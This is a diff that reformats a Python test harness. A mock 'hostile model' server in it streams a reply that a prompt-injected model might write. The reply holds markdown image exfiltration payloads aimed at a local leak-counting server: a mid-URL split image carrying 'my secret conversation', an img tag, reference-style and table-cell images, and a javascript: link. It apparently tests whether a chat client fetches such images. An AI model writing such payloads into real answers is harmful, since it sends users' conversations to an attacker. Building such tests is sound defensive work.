@@ -33,9 +33,13 @@ class LeakCounter(BaseHTTPRequestHandler):
 
 def hostile_answer(leak: str) -> list[str]:
     """An answer a prompt-injected model might write, in the pieces it streams in (an image split mid-URL)."""
-    return ["Here is the answer [1]. ![exfil](", f"{leak}/answer?data=", "my+secret+conversation) and ",
-            f"[a link](https://example.com/x_(y)) and [bad](javascript:alert(1)) <img src=\"{leak}/tag\"> ",
-            f"\n\n![ref][r]\n\n[r]: {leak}/reference.png\n\n| a | b |\n| - | - |\n| ![c]({leak}/cell) | ok |"]
+    return [
+        "Here is the answer [1]. ![exfil](",
+        f"{leak}/answer?data=",
+        "my+secret+conversation) and ",
+        f'[a link](https://example.com/x_(y)) and [bad](javascript:alert(1)) <img src="{leak}/tag"> ',
+        f"\n\n![ref][r]\n\n[r]: {leak}/reference.png\n\n| a | b |\n| - | - |\n| ![c]({leak}/cell) | ok |",
+    ]
 
 
 class HostileModel(BaseHTTPRequestHandler):
@@ -73,8 +77,13 @@ class HostileModel(BaseHTTPRequestHandler):
         for piece in hostile_answer(HostileModel.leak):
             self._event({**chunk, "choices": [{"index": 0, "delta": {"content": piece}, "finish_reason": None}]})
             time.sleep(0.12)  # more than one screen update apart: each partial answer is drawn
-        self._event({**chunk, "choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}],
-                     "usage": {"prompt_tokens": 10, "completion_tokens": 20, "total_tokens": 30}})
+        self._event(
+            {
+                **chunk,
+                "choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}],
+                "usage": {"prompt_tokens": 10, "completion_tokens": 20, "total_tokens": 30},
+            }
+        )
         self._event("[DONE]")
         self.wfile.write(b"0\r\n\r\n")
 
